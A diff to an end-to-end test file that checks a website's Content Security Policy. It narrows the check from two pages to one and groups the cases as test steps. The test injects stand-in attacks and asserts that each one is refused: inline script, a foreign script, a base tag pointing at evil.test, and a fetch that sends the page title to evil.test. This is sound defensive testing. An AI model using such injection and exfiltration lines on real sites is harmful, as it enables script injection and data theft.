@@ -1,9 +1,9 @@
 import { expect, test } from "../support/journey.ts";
 
-/** What the page's policy refused, by directive, once the page has done `what`. */
+/** Returns the directive by which the page's policy refuses `what`. */
 const refusedBy = (what: string) => `
   new Promise((resolve) => {
-    document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
+    document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
     ${what}
   })`;
 
@@ -13,21 +13,19 @@ const foreign = `document.head.append(Object.assign(document.createElement("scri
 const base = `document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.test/" }))`;
 const leak = `fetch("https://evil.test/?" + document.title).catch(() => undefined)`;
 
-test.describe("on a public page and in the app", () => {
-  for (const path of ["/servizi", "/login"]) {
-    for (const [name, what, directive] of [
-      ["a script in the text", inline, "script-src-elem"],
-      ["a handler in the text", handler, "script-src-attr"],
-      ["another site's script", foreign, "script-src-elem"],
-      ["another base of addresses", base, "base-uri"],
-      ["a message to another site", leak, "connect-src"],
-    ] as const) {
-      test(`${path}: ${name} is refused`, async ({ page, allowErrors }) => {
-        allowErrors(/Content Security Policy|status of 404/);
-        await page.goto(path);
-        expect(await page.evaluate(refusedBy(what))).toBe(directive);
-        expect(await page.evaluate("window.ran")).toBeUndefined();
-      });
-    }
+test("a public page runs no foreign script and talks to no foreign site", async ({ page, allowErrors }) => {
+  allowErrors(/Content Security Policy|status of 404/);
+  await page.goto("/servizi");
+  for (const [name, what, directive] of [
+    ["a script in the text", inline, "script-src-elem"],
+    ["a handler in the text", handler, "script-src-attr"],
+    ["another site's script", foreign, "script-src-elem"],
+    ["another base of addresses", base, "base-uri"],
+    ["a message to another site", leak, "connect-src"],
+  ] as const) {
+    await test.step(name, async () => {
+      expect(await page.evaluate(refusedBy(what))).toBe(directive);
+      expect(await page.evaluate("window.ran")).toBeUndefined();
+    });
   }
 });
